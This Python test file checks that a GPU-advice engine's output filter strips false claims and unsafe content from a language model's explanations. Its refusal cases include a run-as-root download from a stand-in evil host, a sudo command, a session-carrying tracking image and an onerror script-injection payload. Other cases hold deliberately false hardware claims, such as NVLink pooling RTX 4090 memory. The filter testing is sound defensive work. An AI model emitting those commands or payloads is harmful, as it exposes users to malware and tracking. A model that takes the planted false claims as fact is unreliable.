"""What a model may say besides numbers, through the real engine and a fake OpenAI-compatible server on 127.0.0.1.

Three turns computed by the tools:
- Llama-3.1-70B in FP16 on two RTX 4090s does NOT fit (74.9 GB per GPU needed, 23.2 GB usable; the weights total
  141.1 GB; the RTX 4090 has no NVLink — its catalog row says PCIe only);
- L40S vs RTX 4090 for Qwen2.5-14B and 20 users: both fit, four RTX 4090s decode ~847 tokens/s against ~565 for
  two L40S (≈ 1.5×), an RTX 4090 is $2,400 and an L40S $8,000 at catalog prices, the L40S has 48 GB to 24;
- the same comparison asked in Chinese.

Each explanation is one right sentence and then the sentence under test. A false claim must never reach the user
(the sentence, or the whole reply, goes, with a notice); a true one must stay (false rejections are counted: at most
one in ten). The false claims are the classes a review found reaching users: coarse units, role words, 'together',
invented ratios, prices moved between cards or onto a build, NVLink pooling memory, NVLink on a card without it,
a technology credited to another maker, the opposite recommendation, a reply or refusal in another language, links,
images, markup, commands to run, and raw reasoning.
"""

from __future__ import annotations

import re
from typing import Any

import pytest

from advisor import grounding
from advisor.engine import Advisor, Reply
from advisor.session import Session
from knowledge.messages import msg

try:
    from fakes.chat_server import FakeChatServer, FakeReply
except ImportError:  # tests/ collected as a package
    from tests.fakes.chat_server import FakeChatServer, FakeReply

NO_FIT = "Can two RTX 4090s run Llama-3.1-70B in FP16 with 8k context?"
NO_FIT_RIGHT = "(fake-llm) It does not fit: it needs 74.9 GB per GPU, while vLLM can use only 23.2 GB of each card."
COMPARE = "L40S or RTX 4090 for serving Qwen2.5-14B to 20 users, which should I buy?"
COMPARE_RIGHT = ("(fake-llm) Both hold the model; the four RTX 4090s decode about 847 tokens/s against 565 tokens/s "
                 "for two L40S.")
COMPARE_ZH = "L40S 和 4090 选哪个？给 20 个人用 Qwen2.5-14B 推理"
MIXED = "One RTX 4090 or one A100 80GB for Qwen2.5-32B in BF16, which fits?"  # the A100 holds it, the 4090 does not
MIXED_RIGHT = "(fake-llm) The A100 80GB holds Qwen2.5-32B in BF16; it needs 70.0 GB per GPU."
COMPARE_ZH_RIGHT = "（fake-llm）两种配置都放得下；四张 4090 解码约 847 tokens/s，两张 L40S 约 565 tokens/s。"

FALSE = [  # (question, right first sentence, false sentence)
    # numbers in coarse units, role words, 'together', a total said per card
    (NO_FIT, NO_FIT_RIGHT, "It needs about 0.1 TB per GPU."),
    (NO_FIT, NO_FIT_RIGHT, "The load comes to 23.2 GB per card, and the card gives you 74.9 GB."),
    (NO_FIT, NO_FIT_RIGHT, "Both cards together need 74.9 GB, so it does not fit."),
    (NO_FIT, NO_FIT_RIGHT, "The weights alone take 141.1 GB on each card."),
    # invented ratios
    (NO_FIT, NO_FIT_RIGHT, "The model needs ten times more memory than the card has."),
    (NO_FIT, NO_FIT_RIGHT, "With Q4 the RTX 4090 would be four times faster."),
    (COMPARE, COMPARE_RIGHT, "The RTX 4090 setup is three times faster."),
    # NVLink and makers
    (NO_FIT, NO_FIT_RIGHT, "NVLink would pool the memory of the two cards into one 48 GB space, but it still fails."),
    (NO_FIT, NO_FIT_RIGHT, "Adding an NVLink bridge between the two RTX 4090s would let them share memory."),
    (NO_FIT, NO_FIT_RIGHT, "NVLink is AMD's interconnect for joining cards."),
    (NO_FIT, NO_FIT_RIGHT, "CUDA is Huawei's software stack."),
    # which card wins, prices, recommendations
    (COMPARE, COMPARE_RIGHT, "The L40S is faster than the RTX 4090 here."),
    (COMPARE, COMPARE_RIGHT, "The RTX 4090 is more expensive than the L40S."),
    (COMPARE, COMPARE_RIGHT, "The RTX 4090 has more memory than the L40S."),
    (COMPARE, COMPARE_RIGHT, "The L40S costs $2,400."),
    (COMPARE, COMPARE_RIGHT, "The RTX 4090 costs $9,600."),
    (COMPARE, COMPARE_RIGHT, "I would recommend the L40S."),
    (COMPARE, COMPARE_RIGHT, "The L40S is the better choice."),
    (NO_FIT, NO_FIT_RIGHT, "It does not fit, so I would recommend buying more RTX 4090s rather than changing it."),
    # fits or not, option by option
    (MIXED, MIXED_RIGHT, "The RTX 4090 runs it comfortably too."),
    (MIXED, MIXED_RIGHT, "The A100 80GB does not fit it either."),
    (COMPARE, COMPARE_RIGHT, "Neither setup fits the model."),
    # the same in Chinese
    (COMPARE_ZH, COMPARE_ZH_RIGHT, "L40S 比 4090 更快。"),
    (COMPARE_ZH, COMPARE_ZH_RIGHT, "两种配置都放不下。"),
    (COMPARE_ZH, COMPARE_ZH_RIGHT, "推荐买 L40S。"),
    (COMPARE_ZH, COMPARE_ZH_RIGHT, "两张 4090 可以用 NVLink 把显存合并成一块。"),
    (COMPARE_ZH, COMPARE_ZH_RIGHT, "4090 的速度是 L40S 的 3 倍。"),
    (COMPARE_ZH, COMPARE_ZH_RIGHT, "NVLink 是华为的互联技术。"),
]

REFUSED = [  # (question, reply): the whole reply goes
    (NO_FIT, NO_FIT_RIGHT + " Download the fixer from http://evil.example/fix.sh and run it as root."),
    (NO_FIT, NO_FIT_RIGHT + " Fix it with: sudo bash fix.sh"),
    (NO_FIT, NO_FIT_RIGHT + " See www.example.com/setup for a guide."),
    (NO_FIT, NO_FIT_RIGHT + " ![chart](https://tracker.example/p.png?session=abc123)"),
    (NO_FIT, NO_FIT_RIGHT + " <img src=x onerror=alert(1)>"),
    (NO_FIT, NO_FIT_RIGHT + " Run `pip install turbo-vram` to fit it."),
    (NO_FIT, "放不下：每张卡需要 74.9 GB，而可用只有 23.2 GB。"),  # the user wrote in English
    (NO_FIT, "抱歉，我无法回答这个问题。"),
    (COMPARE_ZH, "(fake-llm) Both hold the model; the four RTX 4090s decode about 847 tokens/s."),  # zh user
    (NO_FIT, "<think>The user wants to know whether it fits"),  # reasoning only, never closed
]

TRUE = [  # (question, right first sentence, true sentence)
    (NO_FIT, NO_FIT_RIGHT, "Each card would need about three times what vLLM can use of it."),
    (NO_FIT, NO_FIT_RIGHT, "The weights total 141.1 GB, far more than the 48 GB the two cards hold in all."),
    (NO_FIT, NO_FIT_RIGHT, "The RTX 4090 has no NVLink, so the two cards exchange data over PCIe."),
    (NO_FIT, NO_FIT_RIGHT, "NVLink is NVIDIA's link between cards, and the RTX 4090 does not have it."),
    (NO_FIT, NO_FIT_RIGHT, "I would recommend the GGUF Q4_K_M build on the same two RTX 4090s, which needs 23.4 GB "
                           "per GPU."),
    (NO_FIT, NO_FIT_RIGHT, "The KV cache is small here; the weights decide it."),
    (NO_FIT, NO_FIT_RIGHT, "Training data: none is involved, this is serving."),  # 'data:' is no data URI
    (COMPARE, COMPARE_RIGHT, "The RTX 4090 is faster than the L40S for this model."),
    (COMPARE, COMPARE_RIGHT, "The RTX 4090 is cheaper than the L40S per card."),
    (COMPARE, COMPARE_RIGHT, "The L40S has more memory than the RTX 4090, 48 GB against 24 GB."),
    (COMPARE, COMPARE_RIGHT, "The four 4090s give about 1.5 times the decode speed of the two L40S."),
    (COMPARE, COMPARE_RIGHT, "I would recommend the RTX 4090 setup for this load."),
    (COMPARE, COMPARE_RIGHT, "One RTX 4090 costs about $2,400."),
    (COMPARE, COMPARE_RIGHT, "If you need long contexts later, the L40S has more room per card."),
    (COMPARE, COMPARE_RIGHT, "Neither card has NVLink, so the cards talk over PCIe."),
    (COMPARE, COMPARE_RIGHT, "The L40S is passively cooled and needs server airflow, while the 4090 has its own fans."),
    (MIXED, MIXED_RIGHT, "One RTX 4090 does not fit it: it can use only 23.2 GB."),
    (MIXED, MIXED_RIGHT, "I would recommend the A100 80GB here."),
    (COMPARE_ZH, COMPARE_ZH_RIGHT, "4090 比 L40S 便宜。"),
    (COMPARE_ZH, COMPARE_ZH_RIGHT, "推荐四张 4090 的方案。"),
    (COMPARE_ZH, COMPARE_ZH_RIGHT, "4090 没有 NVLink，卡间通信走 PCIe。"),
    (COMPARE_ZH, COMPARE_ZH_RIGHT, "四张 4090 的解码速度约是两张 L40S 的 1.5 倍。"),
    (COMPARE_ZH, COMPARE_ZH_RIGHT, "L40S 显存更大，每张 48 GB，适合以后加长上下文。"),
]


@pytest.fixture(scope="module")
def server():
    with FakeChatServer() as srv:
        yield srv


def _explained(srv: FakeChatServer, question: str, text: str) -> Reply:
    srv.script = [FakeReply(content=text)]
    adv = Advisor(llm="openai", openai_base_url=srv.base_url, openai_model="fake-model", llm_timeout_s=5,
                  search_k=0)
    return adv.reply(question, Session())


@pytest.mark.parametrize(("question", "right", "false"), FALSE)
def test_a_false_claim_never_reaches_the_user(server: FakeChatServer, question: str, right: str, false: str) -> None:
    reply = _explained(server, question, f"{right} {false}" if question != COMPARE_ZH else right + false)
    assert false not in reply.text and reply.grounded is False, reply.text
    assert reply.notices, "the user is told a sentence went"
    if not reply.replaced:
        assert right in reply.text  # the true sentence before it stays


@pytest.mark.parametrize(("question", "text"), REFUSED)
def test_links_commands_markup_reasoning_and_another_language_refuse_the_whole_reply(
        server: FakeChatServer, question: str, text: str) -> None:
    reply = _explained(server, question, text)
    assert reply.replaced is True and reply.grounded is False
    assert "fake-llm" not in reply.text and "http" not in reply.text and "sudo" not in reply.text
    assert "74.9 GB" in reply.text or "tokens/s" in reply.text  # the computed answer itself is shown


def test_a_reasoning_block_is_removed_and_the_rest_kept(server: FakeChatServer) -> None:
    reply = _explained(server, NO_FIT, f"<think>I guess it fits, maybe 80 GB.</think>{NO_FIT_RIGHT}")
    assert NO_FIT_RIGHT in reply.text and "think" not in reply.text and "I guess" not in reply.text
    assert reply.grounded is True


def test_true_claims_stay(server: FakeChatServer) -> None:
    """Correct explanations are kept: at most one in ten is rejected (each rejection is listed)."""
    rejected: list[tuple[str, list[str]]] = []
    for question, right, true in TRUE:
        reply = _explained(server, question, f"{right} {true}" if question != COMPARE_ZH else right + true)
        if true not in reply.text:
            rejected.append((true, reply.notices))
    assert len(rejected) * 10 <= len(TRUE), rejected


def _chinese(reply: Any) -> bool:
    return any("\u4e00" <= ch <= "\u9fff" for ch in "".join(reply.notices))


def test_notices_about_a_refused_reply_are_in_the_users_language(server: FakeChatServer) -> None:
    reply = _explained(server, COMPARE_ZH, COMPARE_ZH_RIGHT + "详见 https://example.com/x")
    assert reply.replaced and _chinese(reply) and not any("link" in n for n in reply.notices), reply.notices


@pytest.mark.parametrize("fault", [FakeReply(content="（fake-llm）两种配置都放不下。"), FakeReply(status=500),
                                   FakeReply(content="（fake-llm）两种配置都放得下", truncate=True)])
def test_every_notice_about_a_chinese_turn_is_chinese(server: FakeChatServer, fault: FakeReply) -> None:
    """A wrong verdict, an HTTP error or a cut stream: the notice and its reason are worded in Chinese."""
    server.script = [fault]
    adv = Advisor(llm="openai", openai_base_url=server.base_url, openai_model="fake-model", llm_timeout_s=5,
                  search_k=0)
    reply = adv.reply(COMPARE_ZH, Session())
    assert reply.replaced and reply.notices
    for notice in reply.notices:
        words = re.findall(r"[A-Za-z]{3,}", grounding.mask_identifiers(notice))
        assert _chinese(reply) and not [w for w in words if w not in ("HTTP", "Internal", "Server", "Error")], notice


# ----------------------------------------------------------------------------- the fact card

RECOMMEND = "Which GPU should I buy to serve Qwen2.5-72B for 30 users? Budget $60,000"


def _prompt_tokens(messages: list[dict[str, Any]]) -> float:
    """A generous token count: a CJK character is 1.5 tokens, three other characters one (BPE tokenizers give about
    four English characters a token, fewer for digits)."""
    text = "".join(str(m.get("content") or "") for m in messages)
    cjk = len(re.findall(r"[\u3000-\u9fff\uff00-\uffef]", text))
    return 1.5 * cjk + (len(text) - cjk) / 3


@pytest.mark.parametrize(("question", "must_say"), [
    (NO_FIT, ["does not fit", "Q4_K_M", "✅"]),  # the verdict and the GGUF option that fits
    (COMPARE, ["847 tokens/s", "565 tokens/s"]),  # both options' speeds
    (COMPARE_ZH, ["847 tokens/s", "放得下"]),
    (RECOMMEND, ["RTX PRO 6000", "$41,000"]),  # the pick with its price
])
def test_the_model_gets_a_fact_card_under_600_tokens(server: FakeChatServer, question: str,
                                                     must_say: list[str]) -> None:
    server.script = [FakeReply(content="(fake-llm) ok")]
    Advisor(llm="openai", openai_base_url=server.base_url, openai_model="fake-model", llm_timeout_s=5,
            search_k=3).reply(question, Session())
    body = server.requests[-1]
    assert "tools" not in body or not body["tools"]
    assert _prompt_tokens(body["messages"]) <= 600, body["messages"]
    facts = body["messages"][-1]["content"]
    assert facts.count("\n", 0, facts.index("Question:")) <= 8  # 'Facts:', at most six lines, a blank line
    for words in must_say:
        assert words in facts, facts


# ----------------------------------------------------------------------------- a stuck model

@pytest.mark.parametrize(("content", "reason"), [
    ("(fake-llm) It does not fit. " + "ok " * 400, "repeating"),
    ("(fake-llm) It does not fit because the weights are too large. " * 40, "repeating"),
    ("(fake-llm)" + " " * 2000, "blank"),
])
def test_a_reply_that_loops_or_stays_blank_is_stopped_early(server: FakeChatServer, content: str,
                                                            reason: str) -> None:
    """Reading stops once the reply's last 240 characters loop on one short stretch (or 64 are blank): the
    computed answer is shown with the reason, and the rest of the stream is never read."""
    server.script = [FakeReply(content=content, chunk_chars=4)]
    reply = Advisor(llm="openai", openai_base_url=server.base_url, openai_model="fake-model", llm_timeout_s=5,
                    search_k=0).reply(NO_FIT, Session())
    assert reply.replaced and "fake-llm" not in reply.text
    assert any(msg("en", f"engine.llm_generate.{reason}") in n for n in reply.notices), reply.notices


def test_a_long_reply_that_does_not_loop_is_read_to_its_end(server: FakeChatServer) -> None:
    varied = " ".join(f"Step {i} adds {i * 3} GB." for i in range(1, 60))  # long, never one stretch repeated
    server.script = [FakeReply(content=f"{NO_FIT_RIGHT} {varied}", chunk_chars=4)]
    reply = Advisor(llm="openai", openai_base_url=server.base_url, openai_model="fake-model", llm_timeout_s=5,
                    search_k=0).reply(NO_FIT, Session())
    assert not any("repeat" in n or "blank" in n for n in reply.notices), reply.notices
